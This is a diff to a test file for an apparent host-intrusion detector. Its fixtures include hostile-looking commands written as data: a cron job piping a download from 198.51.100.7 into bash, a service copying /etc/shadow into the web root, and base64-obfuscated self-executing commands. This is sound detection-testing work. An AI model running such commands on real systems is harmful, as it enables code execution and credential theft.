@@ -332,7 +332,8 @@ CASES = {
     ),
     "persistence-evil-command": (
         starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
-        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"}),
+        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"},
+               {"mechanism": "cron", "command": "bash -c 'base64 -d /srv/x > /srv/y'"}),
     ),
     "persistence-preload": (
         starts({"mechanism": "ld_preload", "command": "/lib/evil.so", "path": "/etc/ld.so.preload"}),
@@ -371,7 +372,8 @@ CASES = {
     ),
     "persistence-target-missing": (
         starts({"mechanism": "cron", "executable": "/home/gone/run.sh", "exists": False}),
-        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False}),
+        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False},
+               {"mechanism": "shell_startup", "command": "[ -f ~/.fzf.bash ] && . ~/.fzf.bash", "executable": "/home/u/.fzf.bash", "exists": False}),
     ),
     "webshell": (hit(90), hit(60)),
     "webshell-likely": (hit(50), hit(90)),
@@ -594,6 +596,17 @@ CASES = {
         set_to("apt_source", ("deb", "http://deb.debian.org/debian bookworm main"), ("deb", "[trusted=yes] file:/srv/repo ./"),
                ("deb", "[signed-by=/usr/share/keyrings/x.gpg] https://192.168.1.5/debian stable main")),
     ),
+    "startup-reads-secrets": (
+        starts({"mechanism": "systemd_service", "command": "/bin/cp /etc/shadow /var/www/html/.s"}),
+        starts({"mechanism": "cron", "command": "tar czf /srv/etc.tgz /etc"}, {"mechanism": "cron", "command": "rsync -e 'ssh -i /root/.ssh/id_backup' a b:"},
+               {"mechanism": "cron", "command": "cp /etc/shadow /var/backups/shadow.bak", "package": "passwd"}),
+    ),
+    "system-file-open": (
+        files({"path": "/etc/cron.d", "type": "directory", "mode": "0757"}, {"path": "/etc/shadow", "mode": "0660"}),
+        files({"path": "/etc/cron.d", "type": "directory", "mode": "0755"}, {"path": "/etc/shadow", "mode": "0640"}, {"path": "/etc/gshadow", "mode": "0000"},
+              {"path": "/var/spool/cron/crontabs", "type": "directory", "mode": "1730"}, {"path": "/etc/passwd", "mode": "0644"},
+              {"path": "/etc/systemd/system/x.service", "type": "link", "mode": "0777"}, {"path": "/etc/x/cache", "mode": "0666"}),
+    ),
     **{f"rare-{kind.replace('_', '-')}": (rare(kind, 1), {"stack": rare(kind, 2)["stack"] + rare(kind, 1, 2)["stack"]}) for kind in (
         "authorized_key", "user", "suid", "sudo", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
 }
@@ -640,3 +653,10 @@ def test_names_that_are_made_to_be_overlooked(name, rules, case):
     add_rows(case, "bad", files({"path": name}))
     run_rule(case, rules["odd-file-name"])
     assert case.rows("SELECT subject FROM findings") == [{"subject": name}]
+
+
+@pytest.mark.parametrize("command", [
+    '/bin/bash -c "$(echo Y3VybA== | base64 -d)" \\x0d#', "eval `echo aWQ= | base64 --decode`", "echo aWQ= | base64 -d | sh",
+])
+def test_commands_that_unpack_themselves(command, case):
+    assert case.connection.execute("SELECT is_evil_command(?)", [command]).fetchone() == (True,)
